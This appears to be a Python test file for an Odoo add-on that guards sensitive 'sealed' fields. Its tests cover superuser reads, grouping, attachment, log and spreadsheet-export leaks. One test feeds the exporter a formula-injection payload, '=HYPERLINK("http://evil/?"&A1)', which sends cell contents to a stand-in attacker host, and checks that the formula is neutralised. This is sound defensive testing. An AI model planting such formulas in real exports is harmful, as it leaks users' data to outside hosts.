import base64
import io
import logging
import zipfile

from odoo import fields
from odoo.exceptions import AccessError
from odoo.tests import tagged

from odoo.addons.web.controllers.export import ExportXlsxWriter

from .. import vault_log
from ..sealed import Sealed, SealedRelated, sealed_target
from .common_attack import AttackCase
from .common_vault import ID_NUMBER


@tagged("post_install", "-at_install")
class TestOrmGuards(AttackCase):
    """Holes of the ORM that are closed for the whole database."""

    def test_no_field_follows_a_sealed_one_as_superuser(self):
        registry = self.env.registry
        wrong = []
        for model in registry.models.values():
            for field in model._fields.values():
                if isinstance(field, Sealed) and not field.inherited:
                    if field.store or field.compute_sudo or not field.search:
                        wrong.append(str(field))
                elif self._leads_to_sealed(field):
                    wrong.append(str(field))
        self.assertFalse(
            wrong, "Follow sealed fields as the user: SealedRelated, related_sudo=False"
        )

    def _leads_to_sealed(self, field):
        """Tell whether a field gives on a sealed one other than as the user."""
        registry = self.env.registry
        as_superuser = field.compute_sudo or field.store
        if field.related:
            target = sealed_target(registry, field)
            return bool(target) and (as_superuser or field.type != "char")
        if not field.compute or not as_superuser:
            return False
        for path in registry.field_depends[field]:
            model_name = field.model_name
            for name in path.split("."):
                step = model_name and registry[model_name]._fields.get(name)
                if not step:
                    break
                if isinstance(step, Sealed | SealedRelated):
                    return True
                model_name = step.comodel_name
        return False

    def test_the_guard_test_sees_a_wrong_field(self):
        partner = self.env.registry["res.partner"]
        wrong = fields.Char(related="insurance_archive_id.id_number")
        wrong.__set_name__(partner, "x_wrong")
        wrong._setup_attrs__(partner, "x_wrong")
        wrong.model_name = "res.partner"
        self.assertTrue(self._leads_to_sealed(wrong))

    def test_sealed_field_refuses_what_would_leak(self):
        Archive = self.env.registry["insurance.archive"]
        for parameter in ("tracking", "required", "default", "translate", "related"):
            field = Sealed(**{parameter: "name"})
            with self.assertRaisesRegex(TypeError, parameter):
                field._get_attrs(Archive, "x_sealed")
        for parameters in ({"related_sudo": True}, {"store": True}):
            field = SealedRelated(
                related="insurance_archive_id.id_number", **parameters
            )
            with self.assertRaises(TypeError):
                field._get_attrs(Archive, "x_sealed")

    def test_related_field_can_not_be_grouped_against_its_groups(self):
        Archive = self.env["insurance.archive"]
        field = Archive._fields["city"]
        self.patch(field, "groups", "base.group_system")
        Archive = Archive.with_user(self.agent)
        for attack in (
            lambda: Archive.search([], order="city"),
            lambda: Archive._read_group([], ["city"]),
            lambda: Archive._read_group([], [], ["city:array_agg"]),
        ):
            with self.assertRaises(AccessError):
                attack()

    def test_attachment_of_a_guarded_field_is_closed(self):
        attachment = self.env["ir.attachment"].create(
            {
                "name": "photo",
                "res_model": "res.partner",
                "res_id": self.partner.id,
                "res_field": "image_1920",
                "datas": base64.b64encode(b"canary-7316"),
            }
        )
        mine = attachment.with_user(self.agent)
        self.assertTrue(mine.read(["datas"]))
        Partner = self.env.registry["res.partner"]
        allowed = Partner._has_field_access
        self.patch(
            Partner,
            "_has_field_access",
            lambda partner, field, operation: (
                field.name != "image_1920" and allowed(partner, field, operation)
            ),
        )
        mine.invalidate_recordset()
        with self.assertRaises(AccessError):
            mine.read(["datas"])

    def test_export_log_holds_no_search_value(self):
        vault_log.install()
        logger = logging.getLogger(vault_log.EXPORT_LOGGER)
        with self.assertLogs(logger, logging.INFO) as log:
            logger.info(
                "User %d exported %d %r records from %s. Fields: %s. %s: %s",
                *(2, 1, "res.partner", "127.0.0.1", "name", "Domain"),
                [("insurance_id_number", "=", ID_NUMBER)],
            )
        self.assertNoCanary(log.output[0])
        self.assertIn("res.partner", log.output[0])

    def test_spreadsheet_has_no_formulas(self):
        writer = ExportXlsxWriter.__new__(ExportXlsxWriter)
        import xlsxwriter

        writer.output = io.BytesIO()
        writer.workbook = xlsxwriter.Workbook(writer.output, {"in_memory": True})
        writer.worksheet = writer.workbook.add_worksheet()
        for row, text in enumerate(('=HYPERLINK("http://evil/?"&A1)', "http://evil")):
            writer.write(row, 0, text)
        writer.workbook.close()
        with zipfile.ZipFile(writer.output) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
        self.assertNotIn("<f>", sheet)
        self.assertNotIn("hyperlink", sheet)
